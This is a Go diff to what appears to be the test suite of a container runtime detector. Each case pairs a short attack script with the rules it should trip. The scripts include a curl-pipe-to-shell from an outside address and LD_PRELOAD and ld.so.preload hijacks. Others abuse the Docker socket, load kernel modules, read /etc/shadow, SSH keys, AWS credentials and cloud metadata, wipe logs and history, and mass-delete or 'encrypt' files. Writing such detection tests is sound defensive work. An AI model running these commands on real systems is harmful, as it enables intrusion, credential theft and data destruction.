@@ -86,7 +86,7 @@ f=os.memfd_create("x",1);os.write(f,open("/bin/echo","rb").read());os.execve(f,[
 		{name: "curl-pipe-shell", script: timed + `curl -s http://203.0.113.5/x | sh`, rules: []string{"download-and-run", "decode-and-run", "download-and-run-command"}, least: medium},
 		{name: "preload", script: `cp /lib/x86_64-linux-gnu/libc.so.6 /tmp/evil.so; LD_PRELOAD=/tmp/evil.so /bin/true`, rules: []string{"preload-from-environment"}, least: medium},
 		{name: "mapped-library", script: `cp /lib/x86_64-linux-gnu/libc.so.6 /dev/shm/evil.so; LD_PRELOAD=/dev/shm/evil.so /bin/true`, opts: []option{runnableMemory},
-			rules: []string{"library-from-shared-memory"}, hidden: "executable mapping", least: medium},
+			rules: []string{"library-from-shared-memory"}, least: medium},
 		{name: "preload-file", script: `echo /tmp/evil.so > /etc/ld.so.preload`, rules: []string{"preload-for-all-programs"}, least: high},
 	}
 }
@@ -102,15 +102,15 @@ func escapes() []attackCase {
 		{name: "proc-root", script: `cat /proc/1/root/etc/hostname; cat /proc/2/root/etc/shadow > /dev/null`, opts: []option{privileged, hostPID}, rules: []string{"host-files-through-proc", "password-file-read"}, least: medium},
 		{name: "host-mount", script: `mkdir /tmp/m; mount -t tmpfs none /tmp/m && mount --bind /proc /tmp/m`, opts: []option{privileged}, rules: []string{"mount-in-container", "container-escape"}, least: medium},
 		{name: "docker-socket", script: `rm -f /run/docker.sock; socat unix-listen:/run/docker.sock,fork exec:/bin/true & while [ ! -S /run/docker.sock ]; do :; done; curl -s --max-time 1 --unix-socket /run/docker.sock http://x/containers/json; kill %1`,
-			rules: []string{"container-runtime-socket"}, hidden: "connect to sockets", least: medium},
+			rules: []string{"container-runtime-socket"}, least: medium},
 		{name: "module", script: `head -c 4096 /dev/zero > /tmp/x.ko; python3 -c 'import ctypes,os;l=ctypes.CDLL(None);f=os.open("/tmp/x.ko",0);print(l.syscall(313,f,b"",0))'`, opts: []option{privileged},
 			rules: []string{"kernel-module-from-container"}, hidden: "module", least: high, lsm: bollwerk.Denied},
 		{name: "module-real", script: `insmod /modules/dummy.ko; grep -q '^dummy ' /proc/modules && echo module-loaded`, opts: []option{privileged},
 			rules: []string{"kernel-module-from-container"}, hidden: "module", least: high, lsm: bollwerk.Denied, proof: "module-loaded"},
 		{name: "module-from-memory", script: `python3 -c 'import ctypes;l=ctypes.CDLL(None);b=open("/modules/dummy.ko","rb").read();l.syscall(175,b,len(b),b"")'; grep -q '^dummy ' /proc/modules && echo module-loaded`, opts: []option{privileged},
 			rules: []string{"kernel-module-from-container"}, hidden: "module", least: high, lsm: bollwerk.Denied, proof: "module-loaded"},
-		{name: "kernel-memory", script: `head -c 64 /proc/kcore > /tmp/k`, opts: []option{privileged}, rules: []string{"physical-memory-opened"}, hidden: "file", least: medium},
-		{name: "device-memory", script: `mknod /dev/mem c 1 1; head -c 64 /dev/mem > /tmp/k`, opts: []option{privileged}, rules: []string{"physical-memory-opened"}, hidden: "file", least: medium},
+		{name: "kernel-memory", script: `head -c 64 /proc/kcore > /tmp/k`, opts: []option{privileged}, rules: []string{"physical-memory-opened"}, least: medium, needs: "/proc/kcore"},
+		{name: "device-memory", script: `mknod /dev/mem c 1 1; head -c 64 /dev/mem > /tmp/k`, opts: []option{privileged}, rules: []string{"physical-memory-opened"}, least: medium},
 		{name: "bpf-load", script: `python3 -c '
 import ctypes,struct
 l=ctypes.CDLL(None,use_errno=True);i=ctypes.create_string_buffer(bytes.fromhex("b700000000000000")+bytes.fromhex("9500000000000000"));g=ctypes.create_string_buffer(b"GPL")
@@ -125,8 +125,8 @@ func credentials() []attackCase {
 		{name: "shadow", script: `cat /etc/shadow > /dev/null`, rules: []string{"password-file-read"}, least: medium},
 		{name: "ssh-key", script: `mkdir -p /root/.ssh; echo KEY > /root/.ssh/id_rsa; sleep 0.2; cat /root/.ssh/id_rsa`, rules: []string{"private-key-read"}, least: medium},
 		{name: "cloud-key", script: `mkdir -p /root/.aws; echo x > /root/.aws/credentials; sleep 0.2; cat /root/.aws/credentials`, rules: []string{"cloud-credential-read"}, least: medium},
-		{name: "environ", script: `sleep 3 & cat /proc/1/environ > /dev/null; cat /proc/$!/environ | tr '\0' '\n' > /dev/null`, rules: []string{"environment-of-others-read"}, hidden: "file", least: low},
-		{name: "process-memory", script: `sleep 3 & python3 -c 'import sys;open("/proc/%s/mem"%sys.argv[1],"rb")' $!`, opts: []option{privileged}, rules: []string{"process-memory-opened"}, hidden: "file", least: medium},
+		{name: "environ", script: `sleep 3 & cat /proc/1/environ > /dev/null; cat /proc/$!/environ | tr '\0' '\n' > /dev/null`, rules: []string{"environment-of-others-read"}, least: low},
+		{name: "process-memory", script: `sleep 3 & python3 -c 'import sys;open("/proc/%s/mem"%sys.argv[1],"rb")' $!`, opts: []option{privileged}, rules: []string{"process-memory-opened"}, least: medium},
 		{name: "metadata", script: timed + `curl -s http://169.254.169.254/latest/meta-data/iam/ || bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'`, rules: []string{"metadata-service-by-tool", "metadata-service-contact"}, least: medium},
 		{name: "api-server", script: timed + `curl -sk https://10.96.0.1:443/api`, rules: []string{"control-plane-contact", "kubernetes-api-by-tool"}, least: low},
 	}
@@ -148,8 +148,9 @@ func hiding() []attackCase {
 	return []attackCase{
 		{name: "log-deletion", script: `mkdir -p /var/log; echo x > /var/log/auth.log; sleep 0.2; rm -f /var/log/auth.log; : > /var/log/wtmp`, rules: []string{"log-removed"}, least: low},
 		{name: "history", script: `touch /root/.bash_history; sleep 0.2; rm -f /root/.bash_history`, rules: []string{"history-removed"}, least: low},
-		{name: "bulk-deletion", script: `mkdir /home/d; cd /home/d; for i in $(seq 2000); do echo x > f$i; done; sleep 0.3; rm -f f*`, rules: []string{"bulk-deletion"}, hidden: "file", least: medium},
-		{name: "link", script: `ln -s /etc/shadow /tmp/s; ln /etc/passwd /tmp/p 2>/dev/null; true`, rules: []string{"link-to-sensitive-file"}, hidden: "file", least: low},
+		{name: "bulk-deletion", script: `for d in a b c d e f; do mkdir -p /home/u/$d; for i in $(seq 60); do echo x > /home/u/$d/f$i.sql; done; done; sleep 0.3; rm -rf /home/u`, rules: []string{"bulk-deletion"}, least: medium},
+		{name: "bulk-encryption", script: `mkdir -p /srv/share; for i in $(seq 80); do echo x > /srv/share/f$i.docx; done; sleep 0.3; for f in /srv/share/*; do mv $f $f.locked; done`, rules: []string{"bulk-deletion"}, least: high},
+		{name: "link", script: `ln -s /etc/shadow /tmp/s; ln /etc/passwd /tmp/p 2>/dev/null; true`, rules: []string{"link-to-sensitive-file"}, least: low},
 	}
 }
 
